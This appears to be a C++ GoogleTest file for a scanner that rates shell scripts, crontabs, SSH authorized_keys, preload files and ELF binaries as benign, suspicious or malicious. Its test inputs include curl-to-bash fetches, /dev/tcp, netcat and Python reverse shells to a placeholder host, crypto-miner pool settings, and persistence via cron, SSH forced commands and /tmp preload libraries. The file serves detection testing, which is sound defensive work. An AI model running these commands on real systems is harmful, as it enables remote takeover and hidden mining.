#include "scan/script.h"

#include <gtest/gtest.h>

#include "scan/elf.h"

namespace aplomb::scan {
namespace {

using namespace std::string_literals;

Level level_of(std::string_view text, SystemFile system = SystemFile::none) {
  ReportBuilder report;
  analyse_script(text, system, report);
  return worst(report.findings());
}

TEST(Script, CodeFetchedAndExecutedUnread) {
  EXPECT_EQ(level_of("curl -s https://x.invalid/a | bash\n"), Level::suspicious);
  EXPECT_EQ(level_of("wget -qO- https://x.invalid/a \\\n  | sudo -E sh -s\n"), Level::suspicious);
  EXPECT_EQ(level_of("bash <(curl -s https://x.invalid/a)"), Level::suspicious);
  EXPECT_EQ(level_of("eval \"$(wget -qO- https://x.invalid/a)\""), Level::suspicious);
  EXPECT_EQ(level_of("echo aGk= | base64 -d | sh"), Level::suspicious);
  EXPECT_EQ(level_of("curl -s https://x.invalid/list | grep x > out"), Level::none);
  EXPECT_EQ(level_of("# curl https://x.invalid/a | sh"), Level::none);
  EXPECT_EQ(level_of("echo aGk= | base64 -d > out"), Level::none);
  EXPECT_EQ(level_of("ls | shuf"), Level::none);
}

TEST(Script, ShellsHandedToARemoteHost) {
  EXPECT_EQ(level_of("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), Level::malicious);
  EXPECT_EQ(level_of("nc 192.0.2.1 4444 -e /bin/sh"), Level::malicious);
  EXPECT_EQ(
      level_of(
          "import socket,os,pty\ns=socket.socket()\ns.connect((\"192.0.2.1\",1))\nos.dup2(s.fileno(),0)\n"
          "pty.spawn(\"/bin/sh\")"),
      Level::malicious);
  EXPECT_EQ(level_of("timeout 1 bash -c '</dev/tcp/localhost/5432' && echo up"), Level::none);
  EXPECT_EQ(level_of("nc -z localhost 80"), Level::none);
}

TEST(Script, Miners) {
  EXPECT_EQ(level_of("./x -o stratum+tcp://pool.invalid:3333 -u w"), Level::malicious);
  EXPECT_EQ(level_of("./x -o pool.invalid:1 -u 4A" + std::string(93, '7')), Level::malicious);
  EXPECT_EQ(level_of("gcc -o xmrig.o x.c && echo done"), Level::none);
  ReportBuilder report;
  find_miner_settings("{\"pools\":[{\"url\":\"p.invalid:1\"}],\"donate-level\":1}", report);
  EXPECT_EQ(worst(report.findings()), Level::malicious);
}

TEST(Script, ScheduledTasksThatNobodySees) {
  EXPECT_EQ(level_of("*/5 * * * * curl -s http://x.invalid/a | sh", SystemFile::crontab), Level::malicious);
  EXPECT_EQ(level_of("* * * * * /dev/shm/.x", SystemFile::crontab), Level::suspicious);
  EXPECT_EQ(level_of("0 * * * * www-data php /srv/site/cron.php > /tmp/cron.log", SystemFile::crontab),
            Level::none);
  EXPECT_EQ(level_of("0 * * * * wget -q -O /dev/null https://mairie.invalid/cron.php", SystemFile::crontab),
            Level::none);
}

TEST(Script, KeysThatStartCommands) {
  auto keys = SystemFile::authorized_keys;
  EXPECT_EQ(level_of("command=\"curl http://x.invalid/a | sh\" ssh-ed25519 AAAA x", keys), Level::malicious);
  EXPECT_EQ(level_of("command=\"/usr/bin/x\" ssh-ed25519 AAAA x", keys), Level::suspicious);
  EXPECT_EQ(level_of("restrict,command=\"borg serve\" ssh-ed25519 AAAA x", keys), Level::none);
  EXPECT_EQ(level_of("ssh-ed25519 AAAA someone with command=\"x\" in the comment", keys), Level::none);
}

TEST(Script, LibrariesLoadedIntoEveryProgram) {
  EXPECT_EQ(level_of("/tmp/a.so\n", SystemFile::preload), Level::malicious);
  EXPECT_EQ(level_of("/usr/lib/libjemalloc.so.2\n", SystemFile::preload), Level::suspicious);
  EXPECT_EQ(level_of("# nothing\n\n", SystemFile::preload), Level::none);
}

TEST(Elf, PackedProgramsAndMiners) {
  auto elf_level = [](const std::string& content) {
    ReportBuilder report;
    analyse_elf(as_bytes(content), report);
    return worst(report.findings());
  };
  std::string header = "\x7f"s + "ELF\2\1\1" + std::string(53, '\0') + "\x1c\0\x1b\0"s;  // 28 sections
  EXPECT_EQ(elf_level(header + std::string(20000, 'c')), Level::none);
  EXPECT_EQ(elf_level(header + "UPX!" + std::string(20000, 'c')), Level::suspicious);
  EXPECT_EQ(elf_level(header + "stratum+tcp:// randomx"), Level::malicious);
  for (size_t i = 4; i < 64; ++i) EXPECT_EQ(elf_level(header.substr(0, i)), Level::none);
}

}  // namespace
}  // namespace aplomb::scan
